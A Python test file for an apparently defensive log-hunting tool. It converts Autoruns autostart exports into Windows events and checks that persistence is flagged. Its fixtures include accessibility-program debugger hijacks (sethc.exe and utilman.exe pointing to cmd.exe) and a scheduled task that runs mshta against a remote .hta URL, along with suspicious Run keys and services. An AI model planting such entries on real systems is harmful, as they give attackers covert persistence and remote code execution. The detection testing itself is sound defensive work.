"""What starts by itself, as Autoruns lists it."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tocsin.cli import main
from tocsin.formats import recognise
from tocsin.formats.syntax.log_rows import LogFault

COLUMNS = [
    "Time",
    "Entry Location",
    "Entry",
    "Enabled",
    "Category",
    "Profile",
    "Description",
    "Signer",
    "Company",
    "Image Path",
    "Version",
    "Launch String",
]
IFEO = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
SERVICES = "HKLM\\System\\CurrentControlSet\\Services"
CMD = "C:\\Windows\\System32\\cmd.exe"
START = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"


def table(*entries: tuple[str, str, str, str], enabled: str = "enabled") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    for place, entry, category, runs in entries:
        path = runs.split('"')[1] if runs.startswith('"') else runs
        row = [
            "20250301-190806",
            place,
            entry,
            enabled,
            category,
            "System-wide",
            "",
            "",
            "",
            path,
            "",
            runs,
        ]
        writer.writerow(row)
    return out.getvalue().encode("utf-16")


def events(data: bytes) -> list[dict[str, str]]:
    form = recognise(data[:8192])
    assert form is not None
    assert form.name == "autoruns"
    found = list(form.log.records(io.BytesIO(data)))
    return [form.log.event(each.text).fields for each in found if not isinstance(each, LogFault)]


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        (
            (IFEO, "sethc.exe", "Image Hijacks", CMD),
            {"EventID": "13", "TargetObject": f"{IFEO}\\sethc.exe\\Debugger", "Details": CMD},
        ),
        (
            (RUN, "Upd", "Logon", '"C:\\Users\\Public\\upd.exe" -s'),
            {"EventID": "13", "TargetObject": f"{RUN}\\Upd"},
        ),
        (
            (SERVICES, "gupd", "Services", "C:\\ProgramData\\gupd.exe -s"),
            {"EventID": "7045", "ServiceName": "gupd", "ImagePath": "C:\\ProgramData\\gupd.exe -s"},
        ),
        (
            (SERVICES, "trs", "Drivers", "C:\\Windows\\Temp\\truesight.sys"),
            {"EventID": "7045", "ServiceType": "kernel mode driver"},
        ),
        (
            ("Task Scheduler", "\\x", "Tasks", "mshta.exe http://203.0.113.5/a.hta"),
            {
                "EventID": "4698",
                "TaskContent": "<Exec><Command>mshta.exe</Command>"
                "<Arguments>http://203.0.113.5/a.hta</Arguments></Exec>",
            },
        ),
        (
            ("WMI Database Entries", "x", "WMI", "cmd /c calc"),
            {"EventID": "20", "Destination": "cmd /c calc"},
        ),
        (
            (START, "a.lnk", "Logon", CMD),
            {"EventID": "11", "TargetFilename": f"{START}\\a.lnk"},
        ),
    ],
)
def test_an_entry_is_the_event_of_its_making(entry, expected) -> None:
    (fields,) = events(table(entry))
    assert expected.items() <= fields.items()
    assert fields["TimeCreated"] == "2025-03-01T19:08:06"


def test_what_is_switched_off_or_only_a_heading_is_passed_over() -> None:
    assert events(table((RUN, "Upd", "Logon", CMD), enabled="disabled")) == []
    assert events(table((RUN, "", "Logon", ""))) == []


def test_the_hunt_tells_the_bad_ones_alone(tmp_path) -> None:
    (tmp_path / "auto.csv").write_bytes(
        table(
            (IFEO, "utilman.exe", "Image Hijacks", CMD),
            (RUN, "Upd", "Logon", "C:\\Users\\Public\\upd.exe"),
            (RUN, "Teams", "Logon", '"C:\\Program Files\\Teams\\Teams.exe" -s'),
            (
                SERVICES,
                "MSExchangeIS",
                "Services",
                "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\store.exe",
            ),
        )
    )
    main(
        ["hunt", str(tmp_path / "auto.csv"), "-q", "--fail-on", "none", "-o", str(tmp_path / "out")]
    )
    run = json.loads((tmp_path / "out" / "run.json").read_text("utf-8"))
    told = [
        (each["step"], cited["position"])
        for each in run["hunt"]["findings"]
        if each["level"] != "informational"
        for cited in each["events"]
    ]
    assert sorted(told) == [("persistence", "line 2"), ("persistence", "line 3")]
